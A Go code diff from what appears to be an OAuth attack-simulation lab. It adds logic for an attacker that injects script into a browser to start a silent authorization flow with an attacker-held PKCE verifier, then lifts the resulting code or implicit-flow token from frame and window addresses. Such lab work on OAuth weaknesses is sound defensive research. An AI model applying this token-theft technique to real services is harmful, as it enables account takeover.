@@ -8,6 +8,7 @@ import (
 	"fmt"
 	"net/http"
 	"net/url"
+	"strings"
 
 	"cloakroom/shared/lab"
 )
@@ -19,16 +20,36 @@ func proof() (verifier, challenge string) {
 	return verifier, base64.RawURLEncoding.EncodeToString(sum[:])
 }
 
+// implicit reports whether an application is given its token by its address.
+func implicit(s lab.Strategy) bool { return s.ID == "implicit" }
+
+// question is what a public client asks the provider.
+func (a *attacker) question(s lab.Strategy, state, challenge string) url.Values {
+	question := url.Values{
+		"response_type": {"code"}, "client_id": {a.world.ClientID(s.ID)}, "redirect_uri": {a.world.RedirectURI(s)}, "scope": {a.world.Scope()},
+		"state": {state}, "code_challenge_method": {"S256"}, "code_challenge": {challenge},
+	}
+	if implicit(s) {
+		question.Set("response_type", "token")
+		question.Set("scope", strings.Replace(a.world.Scope(), "offline_access ", "", 1)) // which is for codes
+		question.Del("code_challenge")
+		question.Del("code_challenge_method")
+	}
+	return question
+}
+
 // newFlow is A3: have the browser fetch a code for a verifier of the attacker's.
 func (m *mission) newFlow(ctx context.Context) error {
 	verifier, challenge := proof()
 	state, redirect := rand.Text(), m.world.RedirectURI(m.target)
-	got, err := m.inject(ctx, "newflow", map[string]string{"redirect": redirect, "authorize": m.world.Issuer() + "/authorize?" + url.Values{
-		"response_type": {"code"}, "client_id": {m.world.ClientID(m.target.ID)}, "redirect_uri": {redirect}, "scope": {m.world.Scope()},
-		"state": {state}, "prompt": {"none"}, "code_challenge_method": {"S256"}, "code_challenge": {challenge},
-	}.Encode()})
+	question := m.attacker.question(m.target, state, challenge)
+	question.Set("prompt", "none")
+	got, err := m.inject(ctx, "newflow", map[string]string{"redirect": redirect, "authorize": m.world.Issuer() + "/authorize?" + question.Encode()})
 	if err != nil {
 		return err
+	}
+	if implicit(m.target) {
+		return m.spend(ctx, sift(map[string]string{"address": got.Places["frame"] + "\n" + got.Places["window"]}))
 	}
 	code := piece{kind: lab.KindCode}
 	for _, place := range []string{"frame", "window"} {
